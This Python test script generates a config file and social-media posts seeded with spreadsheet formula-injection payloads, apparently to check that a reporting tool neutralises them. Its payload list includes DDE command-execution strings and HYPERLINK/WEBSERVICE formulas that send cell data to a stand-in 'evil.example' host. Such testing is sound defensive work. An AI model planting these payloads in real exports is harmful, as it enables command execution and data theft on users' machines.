"""A store of formula injections: posts, handles, addresses and names that a spreadsheet would run if it could.

    python tests/consumers/formulas.py FOLDER      writes tandem.toml and posts.jsonl there

Then `tandem import posts.jsonl`, `tandem report --all --out report` in that folder, and `check.py` on the report.
"""

import json
import pathlib
import sys

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1",
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "=DDE(\"soffice\";\"/etc/passwd\";\"1\")", "=\"a\"&\"b\"", "=A1,=A2", "=A1;=A2",
    "\"=1+1\"", "\",=1+1", "\";=1+1", "a\n=1+1", "é\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "#=1+1", "%0A=1+1",
    "-2+3+cmd|'/C calc'!D2", "@import", "=SUM(9)*cmd|'/C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=" * 2_000,
]


def main():
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else sys.exit(__doc__))
    folder.mkdir(parents=True, exist_ok=True)
    toml = ["[institution]", f"name = {{ english = {json.dumps(PAYLOADS[0])}, french = {json.dumps(PAYLOADS[1])} }}"]
    posts = []
    for number, payload in enumerate(PAYLOADS):
        short = payload[:80] + str(number)
        # In TOML and in JSON such a text is written alike.
        english, french = json.dumps(short + "e", ensure_ascii=False), json.dumps(short + "f", ensure_ascii=False)
        toml += ["[[presence]]", f"id = {json.dumps(short, ensure_ascii=False)}", "platform = \"x\"",
                 f"level-one = {json.dumps(short, ensure_ascii=False)}", f"english = {english}", f"french = {french}",
                 f"institution = {{ english = {json.dumps(short, ensure_ascii=False)}, french = \"x\" }}"]
        for side, account in (("e", short + "e"), ("f", short + "f")):
            for turn, words in enumerate(("The harbour is closed today because of the storm.", "Le port est fermé aujourd’hui à cause de la tempête.")):
                text = f"{payload} {words}"
                posts.append({"platform": "x", "account": account, "id": f"{short}{side}{turn}", "text": text,
                              "published_at": f"2026-11-{2 + number % 12:02}T{10 + turn}:0{number % 10}:00Z",
                              "url": f"https://x.example/{short}"})
    (folder / "tandem.toml").write_text("\n".join(toml) + "\n", encoding="utf-8")
    (folder / "posts.jsonl").write_text("".join(json.dumps(post) + "\n" for post in posts), encoding="utf-8")


if __name__ == "__main__":
    main()
